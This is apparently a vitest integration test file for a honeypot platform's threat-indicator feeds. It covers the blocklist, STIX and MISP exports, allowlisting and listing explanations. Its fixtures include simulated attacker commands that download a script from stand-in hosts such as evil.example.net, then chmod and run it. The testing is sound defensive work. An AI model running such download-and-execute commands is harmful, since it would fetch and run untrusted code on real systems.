import type { FeedExplanation, FeedPreview, Indicator, IngestOne } from '@eviltwin/contract'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'

interface Bundle {
  id: string
  objects: Array<{
    id: string
    type: string
    pattern?: string
    created?: string
    modified?: string
    value?: string
    indicator_types?: string[]
  }>
}
interface MispEvent {
  Event: {
    uuid: string
    threat_level_id: string
    Attribute: Array<{ uuid: string; value: string; to_ids: boolean; comment: string }>
  }
}

const ATTACK = 'wget http://192.0.2.5/y; chmod 777 x; ./x'
const SHA256 = 'f'.repeat(64)

describe.each(inject('postgresServers'))('indicator feeds on $version', (server) => {
  let api: TestPlatform
  let token: string
  let key: string
  let session: string
  beforeAll(async () => {
    api = await startTestPlatform(server, {
      environment: { FEEDS_INCLUDE_DOCUMENTATION_ADDRESSES: 'true', FEEDS_MIN_SCORE: '0' },
    })
    token = await api.login()
    const created = await api.call('/api-keys', {
      method: 'POST',
      as: token,
      body: JSON.stringify({ name: 'firewall', scopes: ['feeds:read'] }),
    })
    key = ((await created.json()) as { key: string }).key
    const attack = await send(
      '203.0.113.1',
      `wget "http://evil.example.net/a'b.sh"; chmod 777 x; ./x; curl http://192.0.2.5/y https://www.google.com/a http://8.8.8.8/`,
    )
    session = attack.session_id
    await sendEvent({
      source_ip: '203.0.113.1',
      event_type: 'file_download',
      url: 'http://192.0.2.5/y',
      file_sha256: SHA256,
    })
    await sendEvent({ source_ip: '203.0.113.1', event_type: 'proxy_request', url: 'tcp://203.0.113.77:443' })
    await send('2001:db8::7', ATTACK)
    await send('203.0.113.9', 'uptime')
  })
  afterAll(() => api.close())

  async function sendEvent(event: object): Promise<IngestOne> {
    const occurred_at = new Date().toISOString()
    const response = await api.send(JSON.stringify({ session: 's', occurred_at, ...event }))
    return (await response.json()) as IngestOne
  }
  const send = (source_ip: string, command: string) => sendEvent({ source_ip, command })
  const get = (path: string, headers: Record<string, string> = {}, as = key) =>
    api.call(path, { as, headers })
  const bundleOf = async (path: string) => (await (await get(path)).json()) as Bundle
  const linesOf = async (query = '') =>
    (await (await get(`/feeds/blocklist.txt${query}`)).text()).split('\n').slice(0, -1)
  const explanationOf = async (value: string) =>
    (await (
      await get(`/feeds/explain?value=${encodeURIComponent(value)}`, {}, token)
    ).json()) as FeedExplanation
  const allow = (body: object, as = token) =>
    api.call('/feeds/allowlist', { method: 'POST', as, body: JSON.stringify(body) })

  test('the blocklist is plain addresses of severe sessions, for a key of its own', async () => {
    const response = await get('/feeds/blocklist.txt')
    expect(response.headers.get('content-type')).toBe('text/plain; charset=utf-8')
    expect(await response.text()).toBe('2001:db8::7\n203.0.113.1\n')
    expect(await linesOf('?threat_level=low')).toContain('203.0.113.9')
    expect((await get('/feeds/blocklist.txt', {}, 'a-sensor-key-for-tests')).status).toBe(403)
    expect((await api.call('/feeds/blocklist.txt')).status).toBe(401)
  })

  test('who has the content already is told so, until it changes', async () => {
    for (const path of ['/feeds/blocklist.txt', '/feeds/stix', '/feeds/iocs', `/sessions/${session}/iocs`]) {
      const etag = (await get(path)).headers.get('etag') ?? ''
      const again = await get(path, { 'if-none-match': etag })
      expect([path, again.status, await again.text()]).toEqual([path, 304, ''])
      expect([path, (await get(path, { 'if-none-match': '*' })).status]).toEqual([path, 304])
    }
    const etag = (await get('/feeds/blocklist.txt')).headers.get('etag') ?? ''
    await send('203.0.113.2', ATTACK)
    expect((await get('/feeds/blocklist.txt', { 'if-none-match': etag })).status).toBe(200)
  })

  test('a session shows what the end of a long command names', async () => {
    const command = `echo ${'A'.repeat(17_000)} > /tmp/a; wget http://45.9.148.98/late`
    const { session_id } = await send('203.0.113.98', command)
    const { items } = (await (await get(`/sessions/${session_id}/iocs`)).json()) as { items: Indicator[] }
    expect(items.map(({ value }) => value)).toEqual([
      '203.0.113.98',
      'http://45.9.148.98/late',
      '45.9.148.98',
    ])
  })

  test('a session shows its source and downloads, and as context what it only named', async () => {
    const { items } = (await (await get(`/sessions/${session}/iocs`)).json()) as { items: Indicator[] }
    expect(items.map(({ value, role, context }) => [value, role, context])).toEqual([
      ['203.0.113.1', 'source', false],
      ['http://evil.example.net/a', 'mentioned', true],
      ['evil.example.net', 'mentioned', true],
      ['http://192.0.2.5/y', 'download', false],
      ['192.0.2.5', 'mentioned', true],
      ['https://www.google.com/a', 'mentioned', true],
      ['www.google.com', 'mentioned', true],
      ['http://8.8.8.8/', 'mentioned', true],
      ['8.8.8.8', 'mentioned', true],
      [SHA256, 'download', false],
      ['203.0.113.77', 'tunnel_target', true],
    ])
    expect(items.find(({ value }) => value === '8.8.8.8')?.reason).toContain('never listed: 8.8.8.8 is in')
    const csv = await get(`/sessions/${session}/iocs?format=csv`)
    expect(await csv.text()).toMatch(
      /^type,value,first_seen_at,last_seen_at,threat_level,expires_at,context,reason\r\n"ipv4-addr","203\.0\.113\.1",/,
    )
  })

  test('context is never to be blocked, in no format', async () => {
    const listed = ['203.0.113.1', 'http://192.0.2.5/y', SHA256]
    const misp = (await (await get(`/sessions/${session}/iocs?format=misp`)).json()) as MispEvent
    expect(misp.Event.threat_level_id).toBe('1')
    expect(misp.Event.Attribute).toHaveLength(11)
    const toIds = misp.Event.Attribute.filter(({ to_ids }) => to_ids).map(({ value }) => value)
    expect(toIds).toEqual(listed)
    const { objects } = await bundleOf(`/sessions/${session}/iocs?format=stix`)
    const indicators = objects.filter(({ type }) => type === 'indicator')
    expect(indicators).toHaveLength(listed.length)
    expect(objects.find(({ value }) => value === '203.0.113.77')).toEqual({
      type: 'ipv4-addr',
      spec_version: '2.1',
      id: expect.stringMatching(/^ipv4-addr--[0-9a-f-]{36}$/),
      value: '203.0.113.77',
    })
    const feed = (await (await get('/feeds/iocs?format=misp')).json()) as MispEvent
    const values = feed.Event.Attribute.map(({ value }) => value)
    expect(values).toEqual(expect.arrayContaining(listed))
    for (const value of ['203.0.113.77', '8.8.8.8', 'www.google.com', 'http://8.8.8.8/', '192.0.2.5'])
      expect(values).not.toContain(value)
  })

  test('an indicator is one STIX object, created once, in every bundle of every range', async () => {
    const response = await get('/feeds/stix?hours=24')
    expect(response.headers.get('content-type')).toContain('application/stix+json')
    const day = (await response.json()) as Bundle
    expect(day.objects.flatMap(({ pattern }) => pattern ?? [])).toEqual(
      expect.arrayContaining([
        "[ipv4-addr:value = '203.0.113.1']",
        "[ipv6-addr:value = '2001:db8::7']",
        "[url:value = 'http://192.0.2.5/y']",
      ]),
    )
    const week = await bundleOf('/feeds/stix?hours=168')
    const ofSession = await bundleOf(`/sessions/${session}/iocs?format=stix`)
    const again = await bundleOf('/feeds/stix?hours=24')
    const identityOf = ({ objects }: Bundle) =>
      new Map(objects.flatMap(({ id, created }) => (created === undefined ? [] : [[id, created]])))
    expect(again).toEqual(day)
    expect(identityOf(week)).toEqual(identityOf(day))
    for (const [id, created] of identityOf(ofSession))
      expect([id, identityOf(day).get(id)]).toEqual([id, created])
    // An event of yesterday that arrives late makes the address known earlier, and not its object older.
    await sendEvent({
      source_ip: '203.0.113.1',
      command: ATTACK,
      occurred_at: new Date(Date.now() - 25 * 3_600_000).toISOString(),
    })
    const later = await bundleOf('/feeds/stix?hours=168')
    expect(identityOf(later)).toEqual(identityOf(day))
    for (const { id, type } of day.objects) expect(id).toMatch(new RegExp(`^${type}--[0-9a-f-]{36}$`))
    for (const { created, modified } of later.objects) expect((modified ?? '') >= (created ?? '')).toBe(true)
  })

  test('the UUID of a MISP attribute is the same whenever its event is made, and in no other event', async () => {
    const attributesOf = async (path: string) => {
      const { Event } = (await (await get(path)).json()) as MispEvent
      return Event.Attribute.map(({ uuid }) => uuid)
    }
    const feed = await attributesOf('/feeds/iocs?format=misp')
    const other = await attributesOf('/feeds/iocs?format=misp&hours=24')
    const ofSession = await attributesOf(`/sessions/${session}/iocs?format=misp`)
    // MISP would take a shorter event of another level for a change of this one.
    const ofAllLevels = await attributesOf('/feeds/iocs?format=misp&threat_level=low')
    const all = [...feed, ...other, ...ofSession, ...ofAllLevels]
    expect(new Set(all).size).toBe(all.length)
    expect(await attributesOf('/feeds/iocs?format=misp')).toEqual(feed)
  })

  test('what is allowed leaves every feed at once, and comes back when that ends', async () => {
    const paths = ['/feeds/blocklist.txt', '/feeds/stix', '/feeds/iocs', '/feeds/iocs?format=misp']
    const tags = await Promise.all(paths.map(async (path) => (await get(path)).headers.get('etag') ?? ''))
    expect(await linesOf()).toContain('203.0.113.1')
    const created = await allow({ value: '203.0.113.1', reason: 'our own test' })
    expect(created.status).toBe(201)
    const { id } = (await created.json()) as { id: string }
    for (const [index, path] of paths.entries()) {
      const answer = await get(path, { 'if-none-match': tags[index] ?? '' })
      expect([path, answer.status]).toEqual([path, 200])
      expect(await answer.text()).not.toMatch(/203\.0\.113\.1\b/)
    }
    expect(await explanationOf('203.0.113.1')).toMatchObject({ listed: false })
    const removed = await api.call(`/feeds/allowlist/${id}`, { method: 'DELETE', as: token })
    expect(removed.status).toBe(204)
    const audit = await get('/audit?action=feed_allowlist.remove', {}, token)
    const [entry] = ((await audit.json()) as { items: object[] }).items
    expect(entry).toMatchObject({ detail: { before: { value: '203.0.113.1', reason: 'our own test' } } })
    expect(await linesOf()).toContain('203.0.113.1')
    expect((await get('/feeds/blocklist.txt', { 'if-none-match': tags[0] ?? '' })).status).toBe(304)
  })

  test('a URL and a file that were listed by mistake leave the feeds at once, and what the session exports as well', async () => {
    const listedIn = async (path: string) => (await (await get(path)).text()).split('"')
    for (const value of ['http://192.0.2.5/y', SHA256]) {
      expect(await listedIn('/feeds/iocs?format=csv')).toContain(value)
      const created = await allow({
        value: value.toUpperCase().replace('HTTP', 'http'),
        reason: 'a false positive',
      })
      expect(created.status).toBe(201)
      const { id, kind } = (await created.json()) as { id: string; kind: string }
      expect(kind).toBe(value === SHA256 ? 'sha256' : 'url')
      expect(await listedIn('/feeds/iocs?format=csv')).not.toContain(value)
      const misp = (await (await get(`/sessions/${session}/iocs?format=misp`)).json()) as MispEvent
      expect(misp.Event.Attribute.find((attribute) => attribute.value === value)?.to_ids).toBe(false)
      expect(await explanationOf(value)).toMatchObject({ listed: false })
      await api.call(`/feeds/allowlist/${id}`, { method: 'DELETE', as: token })
      expect(await listedIn('/feeds/iocs?format=csv')).toContain(value)
    }
  })

  test('only an administrator allows a wide network, and nobody what is none', async () => {
    const analyst = { username: 'ana', password: 'correct horse battery', role: 'analyst' }
    await api.call('/users', { method: 'POST', as: token, body: JSON.stringify(analyst) })
    const ana = await api.login(analyst.username, analyst.password)
    const reason = 'a test'
    expect((await allow({ value: '0.0.0.0/0', reason }, ana)).status).toBe(403)
    expect((await allow({ value: '10.0.0.0/15', reason }, ana)).status).toBe(403)
    const narrow = await allow({ value: '10.1.2.3/16', reason }, ana)
    expect(await narrow.json()).toMatchObject({ kind: 'network', value: '10.1.0.0/16', created_by: 'ana' })
    expect((await allow({ value: 'not a network', reason })).status).toBe(422)
    const expired = new Date(Date.now() - 1000).toISOString()
    expect((await allow({ value: 'example.com', reason, expires_at: expired })).status).toBe(422)
    const domain = await allow({ value: 'Example.COM', reason })
    expect(await domain.json()).toMatchObject({ kind: 'domain', value: 'example.com', expires_at: null })
    expect((await api.call('/feeds/allowlist', { method: 'POST', as: key, body: '{}' })).status).toBe(401)
  })

  test('why a value is listed or not is explained, check by check', async () => {
    expect(await explanationOf('203.0.113.1')).toMatchObject({
      listed: true,
      indicator: { role: 'source', sensor_count: 1, key_count: 1, context: false },
    })
    expect(await explanationOf(SHA256.toUpperCase())).toMatchObject({ listed: true, type: 'sha256' })
    const unseen = await explanationOf('8.8.8.8')
    expect(unseen).toMatchObject({ listed: false, indicator: null })
    expect(unseen.checks.map(({ check, passed }) => [check, passed])).toEqual([
      ['evidence', false],
      ['never_block', false],
    ])
    expect((await get('/feeds/explain?value=nonsense', {}, token)).status).toBe(422)
    const preview = (await (await get('/feeds/preview?threat_level=low', {}, token)).json()) as FeedPreview
    expect(preview.items.map(({ value }) => value)).toContain('203.0.113.9')
    const lists = (await (await get('/feeds/never-block', {}, token)).json()) as { items: object[] }
    expect(lists.items).toContainEqual(
      expect.objectContaining({ name: 'IANA IPv4 Special-Purpose Address Registry', entries: 23 }),
    )
  })
})
